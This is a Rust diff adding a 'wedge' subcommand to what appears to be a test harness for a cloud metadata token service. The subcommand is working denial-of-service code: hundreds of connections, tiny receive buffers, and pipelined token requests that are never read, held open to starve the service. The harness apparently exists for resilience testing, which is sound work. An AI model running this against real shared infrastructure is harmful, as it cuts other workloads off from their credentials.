@@ -17,6 +17,9 @@ use crate::{Timeout, To};
 
 const REQUEST: &[u8] = b"GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net HTTP/1.1\r\n\
 Host: 169.254.169.254\r\nMetadata: true\r\nConnection: close\r\n\r\n";
+/// The same request on a connection kept open for more.
+const KEEP_ALIVE_REQUEST: &[u8] = b"GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net HTTP/1.1\r\n\
+Host: 169.254.169.254\r\nMetadata: true\r\n\r\n";
 
 #[derive(Args)]
 pub struct HttpArgs {
@@ -189,4 +192,51 @@ pub fn bind(addr: SocketAddr) -> Attempt {
         a.local = l.local_addr().ok();
         Ok(())
     })
+}
+
+#[derive(Args)]
+pub struct WedgeArgs {
+    #[command(flatten)]
+    to: To,
+    /// Connections to open and keep.
+    #[arg(long, default_value_t = 500)]
+    connections: usize,
+    /// Keep-alive token requests written on each connection at once; no answer is ever read.
+    #[arg(long, default_value_t = 64)]
+    pipelined: usize,
+    /// How long to keep the connections before closing them all.
+    #[arg(long = "hold-ms", value_name = "MS", default_value_t = 10_000)]
+    hold_ms: u64,
+}
+
+/// The attack of a pod that wants to take the token service from the others: many connections, each asking for many
+/// answers it never reads. Reports one attempt per connection (ok: opened and written).
+pub fn wedge(o: &WedgeArgs) {
+    let pipelined = KEEP_ALIVE_REQUEST.repeat(o.pipelined);
+    let mut held = Vec::with_capacity(o.connections);
+    for _ in 0..o.connections {
+        let attempt = timed("wedge", o.to.addr, |a| {
+            let s = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))
+                .map_err(|e| ("socket", e))?;
+            // A small receive window, so the server's answers stall after a few kilobytes instead of filling
+            // megabytes of buffers first: the attacker's cheapest way to hold a connection.
+            s.set_recv_buffer_size(4096).map_err(|e| ("socket", e))?;
+            s.connect_timeout(&o.to.addr.into(), Duration::from_secs(5))
+                .map_err(|e| ("connect", e))?;
+            let mut s = TcpStream::from(s);
+            a.local = s.local_addr().ok();
+            s.set_nonblocking(true).map_err(|e| ("socket", e))?;
+            // As much as the socket takes without blocking: the attacker never waits for the server.
+            match s.write(&pipelined) {
+                Ok(_) => {}
+                Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
+                Err(e) => return Err(("write", e)),
+            }
+            held.push(s);
+            Ok(())
+        });
+        emit(&attempt);
+    }
+    thread::sleep(Duration::from_millis(o.hold_ms));
+    drop(held);
 }
